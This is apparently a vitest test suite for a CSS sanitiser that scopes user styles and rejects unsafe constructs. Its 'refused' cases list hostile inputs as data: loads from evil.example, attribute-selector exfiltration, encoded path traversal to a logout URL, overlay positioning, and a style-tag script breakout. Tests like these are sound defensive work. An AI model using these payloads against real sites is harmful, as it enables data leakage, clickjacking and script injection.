import { describe, expect, test } from 'vitest';
import { compileStyles } from './compile-styles.ts';

const faultOf = (text: string) => {
  const result = compileStyles(text);
  return 'fault' in result ? result.fault : null;
};
const cssOf = (text: string) => {
  const result = compileStyles(text);
  return 'css' in result ? result.css : null;
};

test('styles are applied, and reach header, page and footer only', () => {
  expect(
    cssOf('main { --ink: #222 }\n.card-title a:hover { color: #a00; position: relative; z-index: 2 }'),
  ).toBe(
    '@media screen{@scope (body) to (:scope>:not(.header-parts,.site-header,site-menu,main,.site-footer)){main{--ink:#222}.card-title a:hover{color:#a00;z-index:2;position:relative}}}',
  );
  expect(cssOf('  /* nothing yet */ ')).toBe('');
});

test('rules may be nested', () => {
  expect(faultOf('main { .card { &:hover { color: red } & + & { margin: 0 } } }')).toBeNull();
});

test.each(['', 'a{--x:', 'a{/* } */', 'a{b:"}";', 'a{b:url(/media/a/*);'])(
  'nesting is counted where the parser would see it: %s',
  (before) => {
    expect(faultOf(`\n${before}${'a{'.repeat(30)}`)).toMatch(/^Line 2: these styles are nested more than/);
  },
);

test('brackets in texts, comments and URLs are ignored', () => {
  const many = '('.repeat(40);
  expect(faultOf(`a{content:"${many}";/* ${many} */background:url(/media/x)}`)).toBeNull();
});

test('unreadable styles are reported with their line', () => {
  expect(faultOf('a { color: red }\n\nb { color: blue }}')).toMatch(
    /^Line 3: these styles could not be read/,
  );
  expect(faultOf('a {\n  color: red;\n} } body {')).toMatch(/^Line 3:/);
});

describe('refused', () => {
  test.each([
    ['an import', 'a{color:red}\n@import "https://evil.example/x.css";', /@import/],
    ['a font from elsewhere', '@font-face{font-family:a;src:url(https://evil.example/a)}', /@font-face/],
    ['a namespace', '@namespace url(https://evil.example)', /Line 1:/],
    ['a registered property', '@property --ink{syntax:"*";inherits:false}', /@property/],
    ['the window itself', '\n:scope{display:none}', /^Line 2: use main/],
    ['the window itself, nested', '@media screen{&{display:none}}', /use main/],
    ['the window itself, in a list', ':is(&,a){display:none}', /use main/],
    ['a scope of its own', '@scope (html){:scope{display:none}}', /@scope/],
    ['rules for paper', '@page{margin:0}', /@page/],
    ['rules nobody knows', '@foo bar;', /@foo/],
    ['an animation of ours', '@keyframes spin{to{opacity:0}}', /own-spin/],
    ['a fixed place', '\na{position:fixed}', /^Line 2: position/],
    ['a fixed place, escaped', String.raw`a{\70osition:FIXED}`, /position/],
    ['a sticky place', 'a{position:sticky}', /position/],
    ['a place by variable', 'a{--p:fixed;position:var(--p)}', /position/],
    ['a place that comes with an animation', '@keyframes own-x{to{position:fixed}}', /position/],
    ['a place in a nested rule', '.a{@media print{& b{position:fixed!important}}}', /position/],
    ['a height above all', 'a{z-index:2147483647}', /z-index/],
    ['a height by variable', 'a{z-index:var(--z)}', /z-index/],
    ['a height by arithmetic', 'a{z-index:calc(9999*9)}', /z-index/],
    ['a picture from elsewhere', 'a{background:url(https://evil.example/a.png)}', /evil\.example/],
    ['a picture without a scheme', 'a{background:url(//evil.example/a.png)}', /evil\.example/],
    ['a picture from elsewhere, escaped', String.raw`a{background:\75rl("https://evil.example")}`, /url\(/],
    ['a way out of the library', 'a{background:url(/media/../admin/log-out)}', /url\(/],
    ['a page as a picture', 'a{background:url(/logout)}', /url\(/],
    ['a document as a picture', 'a{background:url(data:text/html,x)}', /url\(/],
    ['a set of pictures', 'a{background:image-set("https://evil.example/a.png" 1x)}', /image-set/],
    ['a set in a variable', 'a{--x:-webkit-image-set("https://evil.example/a.png" 1x)}', /image-set/],
    ['a picture in a variable', 'a{--x:url(https://evil.example)}', /url\(/],
    ['a source', 'a{--x:src("https://evil.example")}', /src\(/],
    ['a cursor from elsewhere', 'a{cursor:url(https://evil.example),auto}', /url\(/],
    [
      'a second address beside one of the library',
      'a{background:url(/media/x)}b{background:url(https://evil.example/1)}',
      /evil\.example\/1/,
    ],
    [
      'a second address in one value',
      'a{background:url(/media/x),url(https://evil.example/2)}',
      /evil\.example\/2/,
    ],
    ['a second address in a variable', 'a{--x:url(/media/x) url(//evil.example/3)}', /evil\.example\/3/],
    ['an address in a fallback', 'a{color:var(--y,url(https://evil.example/4))}', /evil\.example\/4/],
    [
      'an address in a block of a variable',
      'a{--x:{background:url(https://evil.example/5)}}',
      /evil\.example\/5/,
    ],
    [
      'an address in a condition',
      '@container style(--x:url(https://evil.example/6)){a{color:red}}',
      /evil\.example\/6/,
    ],
    ['an address of an older property', 'a{behavior:url(https://evil.example/7)}', /evil\.example\/7/],
    [
      'an address in a mask, a filter or a marker',
      'a{mask:url(/media/x);marker-end:url(https://evil.example/8)}',
      /evil\.example\/8/,
    ],
    ['url() as the parser does not know it', 'a{--x:URL("https://evil.example/9")}', /url\(\) cannot/],
    ['a set by variable', 'a{background:image-set(var(--u) 1x)}', /image-set/],
    ['dots that are encoded', 'a{background:url(/media/%2e%2e/log-out)}', /not an image/],
    ['dots that are half encoded', 'a{background:url(/media/.%2E/log-out)}', /not an image/],
    ['slashes that are encoded', 'a{background:url(/media/..%2flog-out)}', /not an image/],
    ['backslashes', String.raw`a{background:url("/media/\\..\\log-out")}`, /not an image/],
    ['backslashes for slashes', String.raw`a{background:url("\\\\evil.example/media/")}`, /not an image/],
    ['a line break in an address', String.raw`a{background:url("/media/\a ../x")}`, /not an image/],
    ['a path that means its page', 'a{background:url(media/x)}', /not an image/],
    ['a question', 'a{background:url(/media/x?to=1)}', /not an image/],
    ['a letter that tells of the page', 'input[value^=a]{background:url(https://evil.example/a)}', /url\(/],
  ])('%s', (_name, text, expected) => {
    expect(faultOf(text)).toMatch(expected);
  });
});

test.each(['a::after{content:"</style><script>alert(1)</script>"}', 'a::after{content:"<!--"}'])(
  'no text ends the element it stands in: %s',
  (text) => {
    expect(cssOf(text)).not.toMatch(/<[/!]/);
    expect(cssOf(text)).toContain(String.raw`\3c `);
  },
);

test('pictures of the library and small ones in the text are taken', () => {
  for (const address of ['/media/image/12/a.webp', '"data:image/svg+xml,%3Csvg/%3E"'])
    expect(faultOf(`a{background:url(${address})}`)).toBeNull();
});
